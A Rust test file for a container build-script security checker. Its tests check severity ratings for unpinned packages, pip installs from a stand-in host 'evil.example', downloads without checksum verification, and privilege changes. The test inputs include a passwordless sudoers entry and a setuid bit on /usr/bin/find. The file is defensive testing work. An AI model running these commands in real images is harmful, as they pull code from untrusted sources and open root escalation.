//! The RUN checks.
use super::*;
use crate::script::{read, Files, Shell};
use crate::vars::Scope;
use vouch_proto::findings::FindingKind;

fn kinds(script: &str) -> Vec<(FindingKind, Severity, String)> {
    let script = read(script, &Scope::default(), &Files::new(), Shell::default());
    run(&script, When::Build)
        .findings
        .into_iter()
        .map(|f| (f.rule.kind, f.severity, f.summary))
        .collect()
}

#[test]
fn packages_pins_and_sources() {
    let found = kinds("apt-get update && apt-get install -y --no-install-recommends curl=7.88 git");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].1, Severity::Medium);
    assert!(
        found[0].2.contains("not pinned to a version: git"),
        "{}",
        found[0].2
    );
    assert_eq!(
        kinds("pip install --no-cache-dir requests==2.31.0")[0].1,
        Severity::Low
    );
    assert_eq!(
        kinds("pip install -i https://evil.example/simple requests==2.31.0")[0].1,
        Severity::High
    );
    // --find-links takes a value: a directory in the image is not a package nor a source; a
    // URL is a source, in every spelling.
    for local in [
        "pip install --no-index --find-links /wheels app==1.2.3",
        "pip install --no-index -f /wheels app==1.2.3",
        "pip install --find-links=/wheels app==1.2.3",
    ] {
        let found = kinds(local);
        assert_eq!(found[0].1, Severity::Low, "{local}: {}", found[0].2);
    }
    for remote in [
        "pip install --find-links https://evil.example/w app==1.2.3",
        "pip install --find-links=https://evil.example/w app==1.2.3",
        "pip install -fhttps://evil.example/w app==1.2.3",
        "pip3 install -f https://evil.example/w app==1.2.3",
    ] {
        let found = kinds(remote);
        assert_eq!(found[0].1, Severity::High, "{remote}: {}", found[0].2);
        assert!(
            found[0].2.contains("from https://evil.example/w"),
            "{}",
            found[0].2
        );
    }
    // apt-get's -f takes no value.
    assert!(kinds("apt-get -f install -y curl=7.88")[0]
        .2
        .contains("installs curl=7.88"));
    assert!(kinds("apk add --allow-untrusted foo=1")[0]
        .2
        .contains("--allow-untrusted"));
    assert!(kinds("go install golang.org/x/tools/gopls@latest")[0]
        .2
        .contains("not pinned"));
    assert_eq!(
        kinds("npm install -g @angular/cli@17.0.0")[0].1,
        Severity::Low
    );
}

#[test]
fn a_check_verifies_only_the_file_it_checks_and_only_when_it_can_fail_the_build() {
    let hex = "a".repeat(64);
    let verified = kinds(&format!(
        "curl -fsSLo /t.tgz https://x/t.tgz && echo \"{hex}  /t.tgz\" | sha256sum -c -"
    ));
    assert_eq!(verified[0].1, Severity::Low, "{verified:?}");
    let other = kinds(&format!(
        "curl -fsSLo /t.tgz https://x/t.tgz && echo \"{hex}  /u.tgz\" | sha256sum -c -"
    ));
    assert_eq!(other[0].1, Severity::High, "{other:?}");
    let ignored = kinds(&format!(
        "curl -fsSLo /t.tgz https://x/t.tgz; echo \"{hex}  /t.tgz\" | sha256sum -c - || true"
    ));
    assert_eq!(ignored[0].1, Severity::High, "{ignored:?}");
}

#[test]
fn privilege_changes() {
    let found = kinds("useradd -m -G sudo builder && echo '%sudo ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers && chmod u+s /usr/bin/find");
    let summaries: Vec<&str> = found.iter().map(|f| f.2.as_str()).collect();
    assert!(
        summaries.iter().any(|s| s.contains("membership of sudo")),
        "{summaries:?}"
    );
    assert!(
        summaries
            .iter()
            .any(|s| s.contains("/etc/sudoers with NOPASSWD")),
        "{summaries:?}"
    );
    assert!(
        summaries.iter().any(|s| s.contains("setuid")),
        "{summaries:?}"
    );
    assert!(kinds("chmod 755 /x").is_empty());
    assert!(kinds("chmod 0755 /x").is_empty());
    assert!(kinds("chmod u-s /x").is_empty());
    assert!(kinds("chmod 4755 /x")[0].2.contains("setuid"));
}

#[test]
fn lookups_are_not_downloads() {
    assert!(kinds("command -v curl && which wget").is_empty());
    assert!(kinds("echo https://example.com > /tmp/url").is_empty());
}
